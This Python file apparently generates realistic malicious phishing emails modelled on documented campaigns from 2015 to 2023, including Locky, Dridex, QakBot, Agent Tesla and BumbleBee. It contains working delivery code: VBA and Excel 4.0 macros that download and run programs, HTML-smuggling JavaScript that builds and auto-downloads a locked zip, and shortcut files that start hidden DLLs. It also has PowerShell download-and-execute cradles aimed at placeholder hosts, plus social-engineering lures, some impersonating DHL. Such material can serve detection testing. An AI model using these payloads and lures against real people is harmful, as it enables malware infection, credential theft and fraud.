"""Mass mail in English and other languages, 2015 to 2023."""
from recipe import Recipe, auth
from making import pdf, program, zipped
from kit import Fat, Iso, Pe, Rar5, b64, chm, icons, lnk, office, onenote, partitioned, programs, vhd

DRIDEX_VBA = """Sub Workbook_Open()
    Dim x: Set x = CreateObject("Microsoft.XMLHTTP")
    x.Open "GET", "http://files.example.invalid/k2x90u1", False
    x.send
    With CreateObject("ADODB.Stream"): .Type = 1: .Open: .Write x.responseBody: .SaveToFile Environ("TEMP") & "\\fuzz.exe", 2: End With
    Shell Environ("TEMP") & "\\fuzz.exe", vbHide
End Sub
"""
BEWERBUNG_VBA = """Private Sub Workbook_Open()
    Dim r As String: r = "rundll32 " & Environ("TEMP") & "\\rad" & Int(Rnd * 99999) & ".exe"
    Open Environ("TEMP") & "\\a.tmp" For Binary As #1: Put #1, , ThisWorkbook.Sheets(1).Range("A1").Value: Close #1
    CreateObject("WScript.Shell").Run r, 0
End Sub
"""
EXCEL4 = ['=REGISTER("Shell32","ShellExecuteA","JJCCCCJ","Zx",1,9)',
          '=CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","regsvr32","-s C:\\ProgramData\\q.dll",0,0)', "=HALT()"]
WSF = b"<job><script language=JScript>\r\n" + programs.FETCH_JS.encode() + b"\r\n</script></job>\r\n"


def smuggled(name, data):
    """A page that makes a file of what it holds and offers it at once."""
    return ("<html><body><p>Document is ready. If download does not start, refresh the page.<br>Document password: abc321</p><script>"
            "var c='%s';var s=atob(c),n=s.length,u=new Uint8Array(n);while(n--)u[n]=s.charCodeAt(n);"
            "var f=new Blob([u],{type:'application/zip'});var a=document.createElement('a');a.href=URL.createObjectURL(f);"
            "a.download='%s';document.body.appendChild(a);a.click();</script></body></html>"
            % (b64(data, 1 << 24).decode().strip(), name)).encode()


def link_disc(title, dll):
    return Iso(volume="DVD_ROM").add("%s.lnk" % title, lnk("/c start calc & rundll32 %s,OpenPane" % dll, "C:\\Windows\\System32\\cmd.exe",
                                                          icon="%SystemRoot%\\System32\\imageres.dll", icon_index=3)).add(
        dll, Pe(dll=True, stamp=0x62A1F000).version(FileDescription="Browser helper").bytes(), hidden=True).bytes()


RECIPES = [
    Recipe("m-locky-js", "mass", "Trend Micro and J-CRAT, 2016: foreign mass mail carries .js in plain zips (Locky)",
           "A few English words from an address that looks like a colleague's; scripts in a zip.", "Documents Requested",
           "admin@example.ac.jp", charset="us-ascii", date="Tue, 24 May 2016 17:32:10 +0530",
           body="Dear soumu,\n\nPlease find attached documents as requested.\n\nBest Regards,\nAdmin\n",
           client=("triband-203-0-113-204.isp.example", "203.0.113.204"), message_id="<E5C1D0A2-7711-4F3B@example.ac.jp>",
           headers=[("Return-Path", "<admin@example.ac.jp>"), auth("fail", domain="example.ac.jp"), ("X-Mailer", "Apple Mail (2.1510)")],
           attach=[("Untitled(41).zip", zipped(("WSB7710823.js", programs.FETCH_JS.encode()), ("WSB7710824.js", programs.FETCH_JS.encode())), "application/zip")]),

    Recipe("m-locky-wsf", "mass", "Tokyo Metropolitan University, notices of August 2016: Emailing: Scan ... with scripts in a zip",
           "A scanner's mail in English with a .wsf in a zip.", "Emailing: Photo 08-24-2016, 41 22 08", "soumu7@example.ac.jp",
           charset="us-ascii", hard=True, date="Wed, 24 Aug 2016 09:41:20 +0000",
           body="Your message is ready to be sent with the following file or link\nattachments:\n\nPhoto 08-24-2016, 41 22 08\n\n"
                "Note: To protect against computer viruses, e-mail programs may prevent\nsending or receiving certain types of file attachments. Check your\n"
                "e-mail security settings to determine how attachments are handled.\n",
           client=("static.vnpt.example", "203.0.113.216"), message_id="<002201d1fdf4$6e8f0d10$4bad2730$@example.ac.jp>",
           headers=[auth("softfail", domain="example.ac.jp"), ("X-Mailer", "Microsoft Outlook 14.0")],
           attach=[("Photo 08-24-2016, 41 22 08.zip", zipped(("Photo 08-24-2016, 90 11 40.wsf", WSF)), "application/zip")]),

    Recipe("m-dridex", "mass", "Symantec, 2015 and 2016: Dridex mails with invoices of real firms",
           "An invoice of a British firm as a workbook with macros.", "Invoice No.871206 for koubai", "accounts@plumbing-supplies.example",
           name="Sharon Whitfield", to="koubai@example.co.jp", charset="utf-8", date="Thu, 26 Nov 2015 08:12:30 +0000",
           body="Hello\n\nPlease find attached your latest invoice for your attention.\n\nKind Regards,\nSharon Whitfield\nAccounts\nTel 01632 960000\n",
           client=("bras-203-0-113-60.net.example", "203.0.113.60"), message_id="<871206.20151126081230@plumbing-supplies.example>",
           headers=[auth("none", domain="plumbing-supplies.example")],
           attach=[("IN871206.xlsm", office.xlsm(DRIDEX_VBA, text="Invoice"), "application/vnd.ms-excel.sheet.macroEnabled.12")]),

    Recipe("m-bewerbung", "mass", "Heise and vendors, December 2016: GoldenEye in German applications to personnel sections",
           "A German application with a harmless PDF and a workbook with macros.", "Bewerbung als Sachbearbeiterin",
           "drescher.rolf@bewerber.example", name="Rolf Drescher", hard=True, charset="utf-8", date="Tue, 06 Dec 2016 07:55:41 +0100",
           to="jinji@example.co.jp",
           body="Sehr geehrte Damen und Herren,\n\nhiermit bewerbe ich mich auf die von Ihnen bei der Agentur für Arbeit ausgeschriebene Stelle.\n"
                "Meinen Lebenslauf und das ausgefüllte Bewerberprofil finden Sie im Anhang.\n\nÜber eine Einladung zum Gespräch freue ich mich.\n\nMit freundlichen Grüßen\nRolf Drescher\n",
           client=("srv2.bewerber.example", "203.0.113.11"), message_id="<584660ad.3090105@bewerber.example>",
           headers=[auth("pass", domain="bewerber.example")],
           attach=[("Drescher-Bewerbung.pdf", pdf("Bewerbung\nRolf Drescher"), "application/pdf"),
                   ("Drescher-Bewerberprofil.xls", office.xls(BEWERBUNG_VBA, text="Bitte Bearbeitung aktivieren"), "application/vnd.ms-excel")]),

    Recipe("m-agenttesla-po", "mass", "HP Wolf Security and ANY.RUN, 2019 to 2022: Agent Tesla as a purchase order in archives",
           "A purchase order from a hijacked box; the program is called .pdf.exe and lies in a rar that is called .r00.",
           "RE: Purchase Order PO-88120 // Shipment", "import@gulf-trading.example", name="Ahmed Khalil", twin="b-world-english-order",
           to="undisclosed-recipients:;", charset="utf-8", date="Mon, 15 Jul 2019 04:12:55 -0700",
           body="Dear Sir/Madam,\n\nGood day!\n\nPlease find attached our new purchase order and kindly send us your proforma invoice with bank details at the earliest.\n"
                "We urgently need this order, kindly treat as urgent.\n\nThanks & Best regards\nAhmed Khalil\nImport Manager\n",
           client=("cloud22.hosting.example", "203.0.113.122"), message_id="<f41d7c9b3aa0e6b7ee1a0c1f7d5c2e90@gulf-trading.example>",
           headers=[auth("pass", domain="gulf-trading.example"), ("User-Agent", "Roundcube Webmail/1.3.8"), ("X-Sender", "import@gulf-trading.example")],
           attach=[("PO-88120.r00", Rar5().add("PO-88120.pdf.exe", program(icons.document(accent=(200, 30, 30)), 50000, packed=True, stamp=0x5D2B8000)).bytes(), "application/octet-stream")]),

    Recipe("m-dhl-iso", "mass", "Trustwave and others, 2018 to 2020: stealers in small disc images, in the name of DHL",
           "A notice of DHL in HTML; the image holds one program.", "DHL Express: AWB 7712 3390 41 Shipping Documents / Original BL",
           "noreply@dhl.com", name="DHL Express", to="koubai@example.co.jp", charset="utf-8", date="Thu, 04 Jun 2020 22:03:18 +0000",
           html="<html><body bgcolor='#ffcc00'><p>Dear Customer,</p><p>Your parcel has arrived at the post office. Our courier was <b>unable</b> to deliver the parcel to you.</p>"
                "<p>Please view the attached shipping documents and confirm your address.</p><p>DHL Worldwide Express &copy; 2020</p></body></html>",
           client=("slot0.smtp-relay.example", "203.0.113.57"), message_id="<20200604220318.5AD4B1A9@dhl.com>",
           headers=[("Return-Path", "<root@slot0.smtp-relay.example>"), auth("fail", "none", "fail", "dhl.com")],
           attach=[("AWB-7712339041.iso", Iso(volume="AWB").add("AWB-7712339041.exe", program(icons.document(accent=(220, 160, 0)), 80000, packed=True)).bytes(), "application/octet-stream")]),

    Recipe("m-qakbot-iso", "mass",
           "Microsoft and Trend Micro, June 2022: QakBot in locked zips with disc images of a shortcut and a library",
           "QakBot answers a stolen mail of a talk on samples; locked zip, image, shortcut, library.",
           "Re: Samples for the joint measurement", "dr.lopez@clinica.example", name="Prof. A. Keller", twin="t-iso-dll", hard=True,
           to="kenkyu-a@example.ac.jp", charset="utf-8", date="Mon, 13 Jun 2022 15:26:04 +0000",
           body="Good day,\n\nI have attached the document that you asked for. Please look through it and get back to me.\n\n{password}\n\n"
                "> Dear Professor Keller,\n> the samples left Tsukuba yesterday and should reach you on Friday.\n> Best regards\n",
           password_line="File password: U523", client=("mail.clinica.example", "203.0.113.99"),
           message_id="<1655133964.88123@clinica.example>",
           headers=[auth("pass", domain="clinica.example"), ("In-Reply-To", "<62A2C1F0.4050607@example.ac.jp>")],
           attach=[("REP_445512.zip", zipped(("REP_445512.iso", link_disc("REP_445512", "leaflet.dll")), password="U523"), "application/zip")]),

    Recipe("m-qakbot-html", "mass", "Cisco Talos, July to December 2022: QakBot smuggled in HTML",
           "QakBot's page builds the locked zip and shows the password.", "RE: Q3 forecast", "h.bauer@spedition.example",
           name="Helen Bauer", to="koubai@example.co.jp", charset="utf-8", date="Wed, 28 Sep 2022 11:02:44 +0000",
           body="Hi,\n\nI've written some comments in the attached file. Please check.\n\n> Could you send the Q3 forecast by Friday?\n",
           client=("rs7.spedition.example", "203.0.113.128"), message_id="<AEB1C4D2F9@spedition.example>",
           headers=[auth("pass", "pass", "none", "spedition.example")],
           attach=[("Attachment_2809.html", smuggled("Attachment_2809.zip", zipped(("Attachment_2809.iso", link_disc("Attachment", "sorted.dll")), password="abc321")), "text/html")]),

    Recipe("m-qakbot-one", "mass", "Proofpoint and Sophos, February 2023: QakBot in OneNote sections",
           "A notebook with a hidden .hta behind a button.", "Re: Invoice 20114 overdue", "secretaria@colegio.example", name="Mina Park",
           to="koubai@example.co.jp", charset="us-ascii", date="Tue, 07 Feb 2023 16:44:01 +0000",
           body="Hello,\n\nplease see the attached application and let me know if you need anything else.\n",
           client=("smtp.colegio.example", "203.0.113.24"), message_id="<63e27e91.170a0220@colegio.example>",
           headers=[auth("pass", domain="colegio.example")],
           attach=[("ApplicationReject_20114(Feb07).one", onenote([("Open.hta", b"<html><script language=\"vbscript\">\r\n" + programs.FETCH_VBS.encode() + b"</script></html>")]), "application/octet-stream")]),

    Recipe("m-qakbot-pdf", "mass", "Kaspersky, April 2023: QakBot answers with a PDF that asks to open a link",
           "The PDF says that its content must be opened elsewhere; no other file.", "Re: Angebot Messgeräte",
           "office@hausverwaltung.example", name="T. Brandt", hard=True, alone=False, to="koubai@example.co.jp", charset="utf-8",
           date="Mon, 10 Apr 2023 09:10:52 +0200",
           body="Guten Tag,\n\nanbei erhalten Sie die gewünschten Unterlagen.\n\n> Sehr geehrter Herr Brandt,\n> bitte senden Sie uns das Angebot zu.\n",
           client=("mx3.hausverwaltung.example", "203.0.113.108"), message_id="<6433b74c.050a0220@hausverwaltung.example>",
           headers=[auth("pass", domain="hausverwaltung.example")],
           attach=[("UT-88210.pdf", pdf("Microsoft Azure\nThis document is protected. Open it.\nPassword: 755", "https://dl.example.invalid/ut/88210.zip"), "application/pdf")]),

    Recipe("m-zloader-xls", "mass", "Lastline and Microsoft, 2020: macro sheets of Excel 4.0 in mass mail (ZLoader)",
           "A fax's number and an .xls with a hidden macro sheet.", "Fax message 00412-77 / 2 pages", "fax@efax-notice.example",
           name="eFax Service", charset="us-ascii", date="Tue, 19 May 2020 18:30:27 +0000",
           body="You have received a 2 page fax.\n\nThe reference number for this fax is 00412-77.\nPlease open the attached file to view it.\n",
           client=("n41.bulk-sender.example", "203.0.113.41"), message_id="<0041277.fax@efax-notice.example>",
           headers=[auth("pass", "pass", "none", "efax-notice.example"), ("X-Mailer", "PHPMailer 5.2.22")],
           attach=[("fax_0041277.xls", office.xls_xlm(EXCEL4, text="Enable content to view the fax"), "application/vnd.ms-excel")]),

    Recipe("m-bumblebee-vhd", "mass", "Cyble, September 2022: BumbleBee in virtual disks with a shortcut and a script",
           "A contract's answer with a virtual disk that holds a shortcut and a hidden script.", "Signed agreement", "legal@realty.example",
           name="Kate Moreno", hard=True, twin="t-vhd-recruit", to="koubai@example.co.jp", charset="utf-8",
           date="Thu, 08 Sep 2022 14:20:37 +0000",
           body="Hello,\n\nAs discussed, the signed agreement is attached. Double-click the image and open the shortcut named Quote.\n\nKate Moreno\n",
           client=("mta7.realty.example", "203.0.113.77"), message_id="<0a1c99e77b@realty.example>",
           headers=[auth("pass", "pass", "pass", "realty.example")],
           attach=[("Agreement.vhd", vhd(partitioned(Fat(2048).add("Quote.lnk", lnk("-ep bypass -file imagedata.ps1", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                                                                   icon="C:\\Windows\\System32\\imageres.dll", icon_index=97, show=7)).add(
               "imagedata.ps1", b"$u='http://b.example.invalid/x'\r\n# (New-Object Net.WebClient).DownloadString($u) | iex\r\n", attributes=0x22).bytes()), dynamic=True), "application/octet-stream")]),

    Recipe("m-chm", "mass", "Unit 42, 2022: Agent Tesla starts from compiled help",
           "A zip with compiled help in the name of an order; its page starts a script.", "Order confirmation #221-0098",
           "orders@textil.example", name="Textil Export", to="koubai@example.co.jp", charset="us-ascii",
           date="Fri, 25 Mar 2022 05:42:16 +0000",
           body="Dear customer,\n\nkindly check attached order confirmation and revert back with signed copy.\n\nTextil Export\n",
           client=("u41.hosting.example", "203.0.113.141"), message_id="<623d5968.66@textil.example>",
           headers=[auth("softfail", domain="textil.example")],
           attach=[("ORDER-2210098.zip", zipped(("ORDER-2210098.chm", chm([("index.htm", (
               "<html><body><object id=s classid=\"clsid:52a2aaae-085d-4187-97ea-8c30db990436\"><param name=\"Command\" value=\"ShortCut\"><param name=\"Item1\" "
               "value=\",powershell,-w hidden -c iex((New-Object Net.WebClient).DownloadString('http://o.example.invalid/a'))\"></object>"
               "<script>s.Click();</script>Loading...</body></html>").encode())]))), "application/zip")]),
]
